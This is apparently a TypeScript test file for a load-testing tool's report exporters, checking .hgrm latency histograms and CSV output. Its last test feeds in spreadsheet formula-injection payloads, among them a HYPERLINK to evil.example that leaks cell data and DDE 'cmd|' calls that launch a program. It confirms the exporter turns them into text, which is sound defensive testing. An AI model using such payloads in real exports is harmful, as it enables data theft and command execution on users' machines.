import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { hgrmText, writeHgrmFiles } from '../../../src/report/hgrm.js';
import { intervalsCsv } from '../../../src/report/csv.js';
import { fakeRunResult } from '../../helpers/fake-result.js';

/** Data rows of an .hgrm file: [value (ms), percentile (0..1), total count]. */
function hgrmRows(text: string): [number, number, number][] {
  return text
    .split('\n')
    .filter((line) => /^\s+[\d.]+\s+[\d.]+\s+\d+/.test(line))
    .map((line) => line.trim().split(/\s+/).slice(0, 3).map(Number) as [number, number, number]);
}

test('.hgrm percentiles agree with the JSON summary (values in ms)', () => {
  const run = fakeRunResult({ e2e: true });
  for (const latency of [run.latency.produceAck, run.latency.endToEnd!]) {
    const rows = hgrmRows(hgrmText(latency.hdr, 'test'));
    assert.ok(rows.length > 20);
    for (const [percentile, jsonUs] of [[0.5, latency.p50], [0.95, latency.p95], [0.99, latency.p99], [0.999, latency.p999]] as const) {
      // Each row is the value at its percentile level; the JSON's lies between the rows around it.
      const below = rows.filter(([, p]) => p <= percentile).pop()!;
      const above = rows.find(([, p]) => p >= percentile)!;
      assert.ok(below[0] <= jsonUs / 1000 + 0.0005 && jsonUs / 1000 <= above[0] + 0.0005, `p${percentile * 100}: ${below[0]} ≤ ${jsonUs / 1000} ≤ ${above[0]}`);
      if (Math.abs(below[1] - percentile) < 1e-12) assert.is(below[0], Math.round(jsonUs) / 1000, `row at exactly ${percentile}`);
    }
    const last = rows[rows.length - 1]!;
    assert.is(last[1], 1);
    assert.is(last[2], latency.count);
    assert.is(last[0], Math.round(latency.max) / 1000);
  }
});

test('.hgrm has the plotter\'s header and footer and states its unit', () => {
  const text = hgrmText(fakeRunResult().latency.produceAck.hdr, 'produce→ack latency');
  assert.match(text, /^# stampede produce→ack latency\n# Value in milliseconds/);
  assert.match(text, /\s+Value\s+Percentile\s+TotalCount\s+1\/\(1-Percentile\)/);
  assert.match(text, /#\[Mean\s+=.*\]\n#\[Max\s+=.*\]\n#\[Buckets\s+=/);
});

test('--hgrm writes one file per latency kind the run measured', () => {
  const dir = mkdtempSync(join(tmpdir(), 'stampede-hgrm-'));
  const written = writeHgrmFiles(dir, [{ label: 'r', file: 'r.json', run: fakeRunResult({ e2e: true }) }]);
  assert.equal(written.map((p) => p.slice(dir.length + 1)).sort(), ['e2e.hgrm', 'produce-ack.hgrm']);
  assert.match(readFileSync(written[0]!, 'utf8'), /TotalCount/);
});

test('CSV has one line per interval row, fields as in the JSON', () => {
  const a = fakeRunResult({ e2e: true });
  const b = fakeRunResult({ seed: 3 });
  const lines = intervalsCsv([{ label: 'a', file: 'a.json', run: a }, { label: 'b,"x"', file: 'b.json', run: b }]).trimEnd().split('\r\n');
  const header = lines[0]!.split(',');
  assert.is(header[0], 'run');
  assert.ok(header.includes('recordsPerSec') && header.includes('p99Us') && header.includes('e2eP99Us'));
  assert.is(lines.length - 1, a.intervals.length + b.intervals.length);
  const first = lines[1]!.split(',');
  const row = a.intervals[0]!;
  assert.is(Number(first[header.indexOf('elapsedMs')]), row.elapsedMs);
  assert.is(Number(first[header.indexOf('recordsPerSec')]), row.recordsPerSec);
  assert.is(first[header.indexOf('phase')], 'warmup');
  assert.is(Number(first[header.indexOf('lagRecords')]), row.lagRecords);
  assert.ok(lines[a.intervals.length + 1]!.startsWith('"b,""x""",'), 'a label with a comma and quotes is quoted');
  assert.is(lines[a.intervals.length + 1]!.split(',').pop(), '', 'no e2e: empty column');
});

test('CSV cells a spreadsheet would run as a formula (= + - @ first) are text; numbers, negative ones too, stay numbers', () => {
  const run = fakeRunResult();
  run.intervals = [{ ...run.intervals[0]!, loopLagP99Ms: -1.5 }];
  const cellsOf = (label: string): string[] => intervalsCsv([{ label, file: 'x.json', run }]).split('\r\n')[1]!.split(',');
  assert.is(cellsOf('=HYPERLINK("http://evil.example/?"&A1)')[0], '"\'=HYPERLINK(""http://evil.example/?""&A1)"');
  assert.is(cellsOf('+cmd|\' /C calc\'!A0')[0], "'+cmd|' /C calc'!A0");
  assert.is(cellsOf('-2+3+cmd|\' /C calc\'!A0')[0], "'-2+3+cmd|' /C calc'!A0");
  assert.is(cellsOf('@SUM(1+1)*cmd|\' /C calc\'!A0')[0], "'@SUM(1+1)*cmd|' /C calc'!A0");
  assert.is(cellsOf('\t=1+1')[0], "'\t=1+1");
  assert.is(cellsOf('run-2026-12-05')[0], 'run-2026-12-05', 'an ordinary label is as it was');
  const header = intervalsCsv([]).split('\r\n')[0]!.split(',');
  assert.is(cellsOf('a')[header.indexOf('loopLagP99Ms')], '-1.5', 'a negative number is a number');
});

test.run();
